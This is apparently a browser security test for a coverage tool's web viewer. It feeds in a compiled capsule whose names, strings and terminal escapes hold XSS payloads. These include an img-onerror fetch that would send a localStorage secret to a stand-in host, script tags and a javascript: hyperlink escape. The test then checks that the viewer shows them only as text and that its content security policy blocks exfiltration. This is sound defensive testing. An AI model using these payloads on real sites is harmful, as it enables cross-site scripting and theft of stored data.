// A capsule from a stranger in the page: its names and texts hold HTML, scripts and escape
// sequences of terminals. None of it becomes an element, a request or a script, and the page's
// origin keeps what it has stored. The control: the same texts are there, as text.
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHROMIUM } from '../coverage/browser.ts';
import { ROOT } from '../support/command.ts';
import { PATIENCE, settled } from './built.ts';
import { hosted } from './hosted.ts';

const reason = existsSync(CHROMIUM) ? undefined : `strange capsules skipped: no ${CHROMIUM}`;
if (reason) console.warn(reason);

const SECRET = 'the-secret-of-this-origin';
/** A script that would send it away, in the forms that a page might take for its own. */
const ATTACK = `<img src=x onerror=fetch('//127.0.0.1:9/'+localStorage.secret)>`;
const PROGRAM = `#include <stdio.h>
struct s { const char *text; } value = { "${ATTACK}<script>globalThis.reached=1</script>" };
__attribute__((noinline)) int strange(int n) __asm__("${ATTACK.replaceAll('/', '_')}");
#line 7 "${ATTACK.replaceAll('/', '_')}.c"
int strange(int n)
{
	char text[] = "<script>globalThis.reached=2</script>";
	printf("\\033]8;;javascript:globalThis.reached=3\\033\\\\%s\\033]8;;\\033\\\\ %d\\n", text, n);
	return n + text[0];
}
int main(void)
{
	printf("\\033]0;<script>\\007%s\\n", value.text);
	return strange(1) == 0;
}
`;

describe.skipIf(reason)('a capsule from a stranger', () => {
  const site = hosted();
  const dir = mkdtempSync(join(tmpdir(), 'kcovbox-stranger-'));
  const capsule = join(dir, 'strange.kcapsule');

  beforeAll(async () => {
    const source = join(dir, '<script>globalThis.reached=4<script>.c');
    writeFileSync(source, PROGRAM);
    const words = ['run', '--cflags', '-g -O0', '--record', capsule, source];
    const ran = spawnSync(process.execPath, [join(ROOT, 'bin', 'kcovbox.cjs'), ...words], {
      encoding: 'utf8',
      input: '',
    });
    expect(ran.stderr).toBe('');
    expect(ran.status).toBe(0);
  }, 600_000);

  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it(
    'is text in every view, and reaches nothing of the origin',
    async () => {
      const page = await site.browser.newPage({ viewport: { width: 1400, height: 860 } });
      page.setDefaultTimeout(PATIENCE);
      const requests: string[] = [];
      const said: string[] = [];
      page.on('request', request => requests.push(request.url()));
      page.on('console', message => said.push(message.text()));
      page.on('pageerror', error => said.push(error.message));
      page.on('dialog', dialog => said.push(dialog.message()));
      await page.addInitScript(`localStorage.setItem('secret', ${JSON.stringify(SECRET)})`);
      await page.goto(site.home);
      await page.waitForSelector('.uplot');
      await page.locator('input[type=file]').setInputFiles(capsule);
      await page.waitForTimeout(100);
      await page.waitForSelector('.verdict.same');
      await page.waitForSelector('.uplot');
      await settled(page);
      const calls = page.locator('.calls');
      for (let i = 0; i < 6 && !(await calls.textContent())?.includes('<img'); i++) {
        await page.keyboard.press('s');
        await settled(page);
      }
      // The control: the file of the #line directive, in the list of calls.
      expect(await calls.textContent()).toContain('<img src=x');
      await page.getByTitle('to the end of the run').click();
      await settled(page);
      await page.locator('.xterm-accessibility-tree', { hasText: '<script>' }).waitFor({ state: 'attached' });
      for (const name of ['Functions', 'Calls', 'Files'])
        await page.getByRole('button', { name, exact: true }).click();
      await page.getByTitle('the run as an address or as a file').click();
      await page.getByRole('button', { name: 'Close' }).first().click();
      await settled(page);
      expect(await page.evaluate('globalThis.reached')).toBeUndefined();
      expect(await page.locator('img, iframe, object, embed, a[href^="javascript"]').count()).toBe(0);
      expect(await page.evaluate('document.title')).toBe('kcovbox');
      expect(requests.filter(url => !url.startsWith(site.home) && !url.startsWith('blob:'))).toEqual([]);
      expect(requests.filter(url => url.includes(SECRET))).toEqual([]);
      expect(said).toEqual([]);
      await page.close();
    },
    PATIENCE,
  );

  it('could not send anything away if it did run: the policy names this origin only', async () => {
    const page = await site.browser.newPage();
    await page.goto(site.home);
    await page.waitForSelector('.verdict');
    const blocked = await page.evaluate(`(async () => {
      const refused = [];
      addEventListener('securitypolicyviolation', event => refused.push(event.effectiveDirective));
      await fetch('http://127.0.0.1:9/').catch(() => {});
      const image = new Image();
      image.src = 'http://127.0.0.1:9/x.png';
      const script = document.createElement('script');
      script.textContent = 'globalThis.reached = 5';
      document.head.append(script);
      const form = document.createElement('form');
      form.action = 'http://127.0.0.1:9/';
      document.body.append(form);
      form.submit();
      await new Promise(done => setTimeout(done, 300));
      return { refused: refused.sort(), reached: globalThis.reached };
    })()`);
    expect(blocked).toEqual({
      refused: ['connect-src', 'form-action', 'img-src', 'script-src-elem'],
      reached: undefined,
    });
    await page.close();
  });
});
